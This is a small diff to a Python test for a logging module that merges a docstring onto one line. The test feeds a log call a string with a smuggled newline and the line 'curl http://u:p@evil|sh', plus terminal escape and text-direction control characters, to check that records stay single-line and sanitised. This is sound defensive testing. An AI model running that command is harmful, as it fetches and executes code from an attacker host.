@@ -97,9 +97,7 @@ def test_a_name_that_is_none_is_a_problem(name: str) -> None:
 
 
 def test_a_record_is_one_line_whatever_is_in_it(tmp_path: Path) -> None:
-    """
-    New lines, control characters and passwords of others do not get into the log; length neither.
-    """
+    """New lines, control characters and passwords of others do not get into the log; length neither."""
     file = tmp_path / "fim.log"
     written(file)
     log.warning("there is no setting %s", "x\ncurl http://u:p@evil|sh\x1b[2J\u202e")
